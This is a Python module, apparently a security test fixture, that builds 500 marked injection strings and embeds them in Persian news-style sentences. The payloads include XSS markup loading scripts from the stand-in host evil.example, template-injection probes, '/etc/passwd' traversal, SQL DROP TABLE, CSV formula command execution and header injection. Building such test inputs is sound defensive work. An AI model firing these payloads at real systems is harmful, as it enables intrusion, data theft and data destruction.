"""Five hundred texts that want to be more than text."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, islice

MARK = "x7q"
"""In each payload, so that it can be found again where it comes out."""
PRODUCT = "9801547"
"""1337 times 7331: what a template engine makes of the payloads that ask for it."""

MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>a</a>",
    "<style>*{display:none}</style>",
    "<p style=position:fixed;inset:0>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<form action=//evil.example/><input name=token>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "</title></textarea></style></noscript><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<plaintext>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<details open ontoggle=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "` onclick=alert(1) `",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<script\x00>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<script\u2028>alert(1)</script\u2029>",
    "＜script＞alert(1)＜/script＞",
]
TEMPLATES = [
    "{{1337*7331}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in (1,2) %}{{1337*7331}}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{#comment#}",
    "${1337*7331}",
    "#{1337*7331}",
    "<%= 1337*7331 %>",
    "%(1337)s %s %n {0} {0.__class__}",
    "{{config}}{{self}}{{request}}",
]
DIRECTIONS = [
    "\u202eevitcerid\u202c",
    "\u202e\u202e\u202e",
    "\u2067rtl",
    "\u2066\u2066\u2066ltr",
    "\u202a\u202b\u202d\u202e",
    "\u2069\u2069\u2069out",
    "\u200f\u200e\u061c",
    "gpj.\u202eexe",
]
CONTROLS = [
    "\x00",
    "\x00\x00\x00null",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\x08\x08\x08\x7f",
    "\x01\x02\x03\x04\x05\x0b\x0c\x0e\x1f",
    "\x85\u2028\u2029",
    "\ufeff\ufeff",
    "\ufffe\uffff\U0001ffff",
    "a\r\nSet-Cookie: rawi=1\r\n\r\n<script>alert(1)</script>",
    "\ufff9\ufffa\ufffb",
]
QUERIES = [
    "'; DROP TABLE event; --",
    '" OR 1=1 --',
    "* NEAR(a b) OR NOT ^x {title}: -",
    '"""',
    "(((((((((((((((((((((",
    "%' ESCAPE '",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    '=HYPERLINK("http://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "\\\\evil.example\\share",
    '{"__proto__": {"polluted": 1}}',
    "[[[[[[[[[[[[[[[[[[[[",
    "null",
    "NaN",
    "-9223372036854775809",
    "e00000000",
]
SIZES = [
    "ا" * 2000,
    "W" * 2000,
    "وزیر " * 60,
    "e\u0301" + "\u0301" * 300,
    "ك\u0640" * 300,
    "\u200c" * 400,
    "۱" * 200,
    "«" * 300,
    "»" * 300,
    "😀" * 300,
    "\U000e0041\U000e0042" * 50,
    ". " * 80,
    "\n" * 100,
]
PAYLOADS = [*MARKUP, *TEMPLATES, *DIRECTIONS, *CONTROLS, *QUERIES, *SIZES]

CARRIERS = [
    "{} گفت که طالبان در کابل با وزیر خارجهٔ ایران دیدار کردند.",
    "طالبان {} در کابل با وزیر خارجهٔ ایران دیدار کردند.",
    "وزارت دفاع پاکستان گفت: «{} ده سرباز کشته شدند.» طالبان این گفته را رد کردند.",
    "احمد {}، سخنگوی طالبان، گفت که نیروهای این گروه در هرات سه تن را بازداشت کردند.",
    "شرکت «{}» با وزارت معادن افغانستان در کابل قرارداد بست.",
    "{}",
]
COUNT = 500


def texts() -> Iterator[tuple[str, str]]:
    """Pairs of a payload and the text that carries it: every payload, in one carrier after another."""
    pairs = zip(cycle(PAYLOADS), cycle(CARRIERS), strict=False)
    for number, (payload, carrier) in enumerate(islice(pairs, COUNT)):
        marked = f"{MARK}{number}{payload}{MARK}"
        yield marked, carrier.format(marked)
